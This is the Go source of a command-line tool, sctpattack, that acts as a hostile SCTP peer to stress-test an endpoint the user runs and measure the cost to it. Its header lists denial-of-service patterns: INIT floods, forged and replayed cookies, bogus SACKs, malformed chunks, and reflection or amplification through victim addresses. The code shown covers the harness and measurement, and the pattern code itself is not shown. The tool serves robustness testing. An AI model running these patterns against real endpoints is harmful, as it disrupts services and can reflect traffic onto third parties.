// Command sctpattack is a scripted hostile peer: it speaks SCTP over UDP
// encapsulation (RFC 6951) to a running endpoint, making its own packets
// with sctp/chunk (its own handshake, then what no real stack sends), and
// measures what that costs the target while a legitimate client uses it.
//
//	sctpattack [flags] HOST:PORT
//
// HOST:PORT is the target's IP address and SCTP port, for example an echo
// server started with "sctpcat -l -echo 127.0.0.1:7000". Each pattern of
// -patterns runs for -duration at most -rate packets per second (0: as
// fast as it can); meanwhile a legitimate client (with -legit-bytes) opens
// associations and has that many bytes echoed, again and again, and its
// completion times are reported. With -pid the target's CPU time and RSS
// (from /proc) are reported per pattern. One line per pattern:
//
//	pattern=pdstreams sent=1200pkt/1.7MB recv=310pkt/19kB answer=0.01 legit=6/6 median=41ms max=60ms server_cpu=0.40s server_rss=+3.1MB
//
// -amplify reports instead, for single packets, the size of what the target
// answers: the amplification a reflection attack through it gets.
//
// Patterns (-patterns all runs every one):
//
//	pdstreams     ordered first fragments spread over 65535 streams, past the partial delivery point
//	tinyfrags     1-byte fragments of messages that never complete, filling the window
//	initflood     INITs, each with a new tag
//	cookieforge   COOKIE ECHOs with forged cookies
//	cookiereplay  the COOKIE ECHO of a real handshake, again and again
//	sack          SACKs acknowledging what was never sent, many gap blocks and duplicates
//	fwdtsn        FORWARD-TSNs far ahead, stale, and naming many streams
//	reconf        RE-CONFIG stream reset and add-stream requests
//	heartbeat     HEARTBEATs carrying 1000 bytes of information
//	malformed     bad lengths, truncation, unknown chunk types, bad checksums
//	initaddrs     an INIT listing 100 addresses, 31 of them victims (reflection)
//	asconfaddrs   ASCONFs adding 31 victim addresses, again every minute (reflection)
//
// The reflection patterns need a target on 127.0.0.1 that uses the peer's
// other addresses (sctpcat -multihome, -dynamic-addrs): their victims are
// loopback addresses whose sockets count what the target sends them
// (victims=, and reflect= against what the attacker sent).
//
// Only point it at endpoints you run: it is an attack tool.
package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"os/signal"
	"slices"
	"sync"
	"syscall"
	"time"

	"github.com/usctp/usctp/sctp"
)

func main() {
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	code := run(ctx, os.Args[1:], os.Stdout, os.Stderr)
	stop()
	os.Exit(code)
}

// options are the parsed command line.
type options struct {
	target     netip.AddrPort // SCTP address
	udpPort    int            // the target's UDP encapsulation port
	patterns   []pattern
	duration   time.Duration
	rate       int
	legitBytes int
	pid        int
	seed       uint64
	amplify    bool
}

func parse(args []string, stderr io.Writer) (*options, error) {
	var o options
	var list, addr string
	fs := flag.NewFlagSet("sctpattack", flag.ContinueOnError)
	fs.SetOutput(stderr)
	fs.Usage = func() {
		fmt.Fprintln(stderr, "usage: sctpattack [flags] HOST:PORT")
		fs.PrintDefaults()
	}
	fs.IntVar(&o.udpPort, "remote-udp-port", 9899, "the target's UDP encapsulation port")
	fs.StringVar(&list, "patterns", "all", "patterns to run, comma-separated, or all: "+patternNames())
	fs.DurationVar(&o.duration, "duration", 5*time.Second, "how long each pattern runs")
	fs.IntVar(&o.rate, "rate", 0, "packets per second of the attack (0: as fast as it can)")
	fs.IntVar(&o.legitBytes, "legit-bytes", 256<<10, "bytes a legitimate client has echoed, again and again, during each pattern (0: none; needs an echo server)")
	fs.IntVar(&o.pid, "pid", 0, "the target's process id, to report its CPU time and RSS (Linux /proc)")
	fs.Uint64Var(&o.seed, "seed", 1, "seed of the attack's random choices")
	fs.BoolVar(&o.amplify, "amplify", false, "report the size of the target's answers to single packets instead of attacking")
	if err := fs.Parse(args); err != nil {
		return nil, err
	}
	if fs.NArg() != 1 {
		fs.Usage()
		return nil, errors.New("one HOST:PORT argument expected")
	}
	addr = fs.Arg(0)
	ap, err := netip.ParseAddrPort(addr)
	if err != nil {
		return nil, fmt.Errorf("%q: %w", addr, err)
	}
	o.target = ap
	if o.udpPort < 1 || o.udpPort > 65535 {
		return nil, fmt.Errorf("-remote-udp-port %d out of range", o.udpPort)
	}
	if o.patterns, err = lookup(list); err != nil {
		return nil, err
	}
	if o.rate < 0 || o.legitBytes < 0 || o.duration <= 0 {
		return nil, errors.New("-rate and -legit-bytes must not be negative, -duration must be positive")
	}
	return &o, nil
}

func run(ctx context.Context, args []string, stdout, stderr io.Writer) int {
	o, err := parse(args, stderr)
	if err != nil {
		if !errors.Is(err, flag.ErrHelp) {
			fmt.Fprintln(stderr, "sctpattack:", err)
		}
		return 2
	}
	if o.amplify {
		err = amplify(o, stdout)
	} else {
		for _, pat := range o.patterns {
			var r report
			if r, err = attack(ctx, o, pat); err != nil {
				break
			}
			fmt.Fprintln(stdout, r)
		}
	}
	if err != nil {
		fmt.Fprintln(stderr, "sctpattack:", err)
		return 1
	}
	return 0
}

// udpTarget returns the target's UDP encapsulation address.
func (o *options) udpTarget() *net.UDPAddr {
	return net.UDPAddrFromAddrPort(netip.AddrPortFrom(o.target.Addr(), uint16(o.udpPort)))
}

// report is what one pattern cost the target.
type report struct {
	pattern        string
	sent, received counter
	reflected      counter // what victim addresses got (reflection patterns)
	reflection     bool
	legit          []time.Duration // completion times of the legitimate client
	legitRuns      int             // rounds started
	legitErr       error
	cpu            time.Duration // the target's CPU time (with -pid)
	rss, rssBefore int64         // the target's RSS after and before (with -pid)
	measured       bool
}

func (r report) String() string {
	s := fmt.Sprintf("pattern=%s sent=%dpkt/%s recv=%dpkt/%s", r.pattern, r.sent.packets, size(r.sent.bytes), r.received.packets, size(r.received.bytes))
	if r.sent.bytes > 0 {
		s += fmt.Sprintf(" answer=%.2f", float64(r.received.bytes)/float64(r.sent.bytes))
	}
	if r.reflection {
		s += fmt.Sprintf(" victims=%dpkt/%s", r.reflected.packets, size(r.reflected.bytes))
		if r.sent.bytes > 0 {
			s += fmt.Sprintf(" reflect=%.2f", float64(r.reflected.bytes)/float64(r.sent.bytes))
		}
	}
	if r.legitRuns > 0 {
		s += fmt.Sprintf(" legit=%d/%d", len(r.legit), r.legitRuns)
		if len(r.legit) > 0 {
			t := slices.Clone(r.legit)
			slices.Sort(t)
			s += fmt.Sprintf(" median=%v max=%v", t[len(t)/2].Round(time.Millisecond), t[len(t)-1].Round(time.Millisecond))
		}
		if r.legitErr != nil {
			s += fmt.Sprintf(" legit_err=%q", r.legitErr.Error())
		}
	}
	if r.measured {
		s += fmt.Sprintf(" server_cpu=%.2fs server_rss=%s(%+.1fMB)", r.cpu.Seconds(), size(r.rss), float64(r.rss-r.rssBefore)/1e6)
	}
	return s
}

// size formats a byte count.
func size(n int64) string {
	switch {
	case n >= 1e6:
		return fmt.Sprintf("%.1fMB", float64(n)/1e6)
	case n >= 1e3:
		return fmt.Sprintf("%.1fkB", float64(n)/1e3)
	}
	return fmt.Sprintf("%dB", n)
}

// attack runs one pattern for o.duration with the legitimate client
// alongside. The duration counts from the pattern's first attack packet,
// after any handshake it needs: on a loaded host a handshake that needed a
// retransmitted INIT would otherwise use up a short run.
func attack(ctx context.Context, o *options, pat pattern) (report, error) {
	r := report{pattern: pat.name}
	p, err := newPeer(o.udpTarget(), o.target.Port(), o.seed)
	if err != nil {
		return r, err
	}
	defer p.Close()
	var cpu0 time.Duration
	if o.pid > 0 {
		cpu0, r.rssBefore, err = procUsage(o.pid)
		if err != nil {
			return r, err
		}
	}
	actx, cancel := context.WithCancel(ctx)
	defer cancel()
	var clock *time.Timer
	defer func() {
		if clock != nil {
			clock.Stop()
		}
	}()
	var wg sync.WaitGroup
	var mu sync.Mutex
	if o.legitBytes > 0 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			// At least one round, to its end: the attack may stop first.
			for first := true; first || actx.Err() == nil; first = false {
				mu.Lock()
				r.legitRuns++
				mu.Unlock()
				lctx, lcancel := context.WithTimeout(ctx, o.duration+30*time.Second)
				d, err := legit(lctx, o.target, o.udpPort, o.legitBytes)
				lcancel()
				mu.Lock()
				if err != nil {
					r.legitErr = err
				} else {
					r.legit = append(r.legit, d)
				}
				mu.Unlock()
				if err != nil {
					return
				}
			}
		}()
	}
	var tick *time.Ticker
	if o.rate > 0 {
		tick = time.NewTicker(time.Second / time.Duration(o.rate))
		defer tick.Stop()
	}
	pace := func() bool {
		if clock == nil {
			clock = time.AfterFunc(o.duration, cancel)
		}
		if tick == nil {
			return actx.Err() == nil
		}
		select {
		case <-tick.C:
			return true
		case <-actx.Done():
			return false
		}
	}
	err = pat.run(actx, p, pace)
	cancel()
	wg.Wait()
	r.sent, r.received, r.reflected, r.reflection = p.sent, p.received, p.reflected, pat.reflection()
	if err != nil && ctx.Err() == nil {
		return r, fmt.Errorf("%s: %w", pat.name, err)
	}
	if o.pid > 0 {
		var cpu1 time.Duration
		if cpu1, r.rss, err = procUsage(o.pid); err != nil {
			return r, err
		}
		r.cpu, r.measured = cpu1-cpu0, true
	}
	return r, nil
}

// legit opens an association to target (an echo server), has n bytes
// echoed in messages of 1000 bytes, and returns how long it took.
func legit(ctx context.Context, target netip.AddrPort, udpPort, n int) (time.Duration, error) {
	start := time.Now()
	as, err := sctp.Dial(ctx, target.String(), &sctp.Config{RemoteUDPPort: uint16(udpPort)})
	if err != nil {
		return 0, fmt.Errorf("legitimate client: %w", err)
	}
	defer as.Close()
	stop := context.AfterFunc(ctx, func() { as.Abort("deadline") })
	defer stop()
	errc := make(chan error, 1)
	go func() {
		msg := make([]byte, 1000)
		for sent := 0; sent < n; sent += len(msg) {
			if _, err := as.WriteMsg(msg[:min(len(msg), n-sent)], sctp.SendInfo{Stream: 1}); err != nil {
				errc <- err
				return
			}
		}
		errc <- nil
	}()
	buf := make([]byte, 64<<10)
	for got := 0; got < n; {
		m, _, err := as.ReadMsg(buf)
		if err != nil {
			return 0, fmt.Errorf("legitimate client: %d of %d bytes back: %w", got, n, err)
		}
		got += m
	}
	if err := <-errc; err != nil {
		return 0, fmt.Errorf("legitimate client: %w", err)
	}
	d := time.Since(start)
	as.Shutdown(ctx)
	return d, nil
}
